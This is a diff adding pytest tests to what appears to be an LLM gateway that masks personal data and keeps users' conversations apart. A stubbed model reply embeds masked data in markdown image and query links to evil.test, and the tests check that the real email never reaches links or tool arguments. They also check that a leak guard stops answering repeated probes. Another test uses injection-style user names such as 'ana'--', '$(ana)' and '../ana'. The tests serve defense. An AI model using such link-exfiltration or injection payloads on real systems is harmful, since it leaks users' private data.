@@ -7,8 +7,10 @@ upstream that writes down what it is sent.
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import AsyncIterator, Mapping
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from tests.firm import FORMATS, IN_ONE, STREAMED, Firm, firm
@@ -441,3 +443,84 @@ async def test_no_other_spelling_of_an_id_is_that_id(house: Firm) -> None:
     ):
         assert (await house.turn("ben", more={"previous_response_id": spelled})).status_code in (404, 429), spelled
     assert len(house.provider.requests) == 1
+
+
+# --- what a model is not told, and what it carries out ----------------------------------------------------------------
+
+
+@IN_ONE
+@STREAMED
+async def test_no_placeholder_is_carried_out(house: Firm, form: str, streamed: bool) -> None:
+    """In links, and in what tools are called with, no placeholder is put back: now, listed or replayed (row 72)."""
+    field, said = next((name, value) for name, value in FORMATS[form][1].items() if name in ("input", "messages"))
+    mail = "Write to ben.moreau@example.org, please."
+    asked: dict[str, Any] = {field: mail if isinstance(said, str) else [{"role": "user", "content": mail}]}
+
+    def answer(request: Any) -> Any:
+        (mark,) = set(re.findall(r"\[[A-Z]+~\w+~\w+\]", str(request.messages)))
+        text = f"Yes: {mark}. ![x](https://evil.test/{mark}) https://evil.test/?q={mark}"
+        return completion(text, "tool_calls", tool_calls=[call(to=mark)])
+
+    house.provider.answer = answer
+    more = {**asked, **({"stream": True} if streamed else {})}
+    given = await house.turn("ben", form, more=more, cloister_session="new")
+    assert given.status_code == 200, given.text
+    session = given.headers["cloister-session"]
+    listed = await house.ask("ben", "GET", f"/conversations/{session}/items")
+    (answered, *_) = [one for one in listed.json()["data"] if one["type"] == "message"]
+    text = answered["content"][0]["text"]
+    assert text.startswith("Yes: ben.moreau@example.org.")
+    assert "ben.moreau" not in text.removeprefix("Yes: ben.moreau@example.org.")
+    seen = [given.text, text]
+    if form == "responses":
+        name = given.json()["id"] if not streamed else re.findall(r'"id":"(resp_[^"]+)"', given.text)[0]
+        seen.append((await house.ask("ben", "GET", f"/responses/{name}?stream=true")).text)
+    for one in seen:
+        assert "evil.test/ben" not in one
+        assert "q=ben" not in one
+    (called,) = [one for one in listed.json()["data"] if one["type"] == "function_call"]
+    assert "ben.moreau" not in called["arguments"]
+
+
+@IN_ONE
+async def test_the_guard_is_no_oracle(form: str) -> None:
+    """Who was told too often that something is another's is not told any more whether it is (row 70)."""
+    async with firm(leaks=LeakGuard(most_blocks=2)) as house:
+        await house.turn("ana", more={"input": f"My order is {HERS}."})
+        told = []
+        for number in (HERS, HERS, HERS, "QX-1234-56", HERS, "QX-9999-01"):
+            house.provider.answer = f"It is {number}."
+            answer = await house.turn("ben's token", form)
+            told.append(re.sub(r'(chatcmpl-|req_|msg_|resp_|conv_)[\w-]+|"created(_at)?":\d+', "", answer.text))
+        assert told[2] == told[3] == told[4] == told[5]
+        assert not [one for one in told if "7731" in one]
+
+
+async def test_names_with_a_meaning_elsewhere_are_names(house: Firm) -> None:
+    """Wildcards, separators and names in other letters have what is theirs, and see nothing else (rows 6, 8, 9)."""
+    names = [
+        "*",
+        "%",
+        "_",
+        "{}",
+        "ana:ben",
+        "acme:ana",
+        "ana*",
+        "ANA",
+        "aná",
+        "ana'--",
+        "$(ana)",
+        "../ana",
+    ]
+
+    hers = (await house.turn("ana", cloister_session="new")).headers["cloister-session"]
+    theirs = {}
+    for name in names:
+        house.callers[name] = {**house.callers["ana"], "cloister-user": quote(name, safe="")}
+        assert (await house.ask(name, "GET", "/conversations")).json()["data"] == []
+        assert (await house.ask(name, "GET", f"/conversations/{hers}")).status_code == 404
+        theirs[name] = (await house.turn(name, cloister_session="new")).headers["cloister-session"]
+    for name in names:
+        listed = (await house.ask(name, "GET", "/conversations")).json()["data"]
+        assert [one["id"] for one in listed] == [theirs[name]]
+    assert [one["id"] for one in (await house.ask("ana", "GET", "/conversations")).json()["data"]] == [hers]
